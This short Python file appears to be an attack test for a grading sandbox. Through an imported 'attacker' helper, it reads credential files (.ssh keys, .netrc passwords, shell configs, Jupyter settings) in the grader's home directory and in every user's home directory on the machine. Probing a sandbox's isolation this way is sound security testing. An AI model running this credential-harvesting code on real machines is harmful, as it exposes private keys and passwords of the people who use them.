"""Reads the grader's home: keys, passwords, shell history, and those of every user of the machine."""

import pwd
from pathlib import Path

from attacker import HOME, look

NEEDS_SANDBOX = True

look(*(Path(HOME, name) for name in (".ssh", ".netrc", ".bashrc", ".local", ".config", ".jupyter")))
for user in pwd.getpwall():
    look(Path(user.pw_dir, ".ssh"), Path(user.pw_dir, ".netrc"))
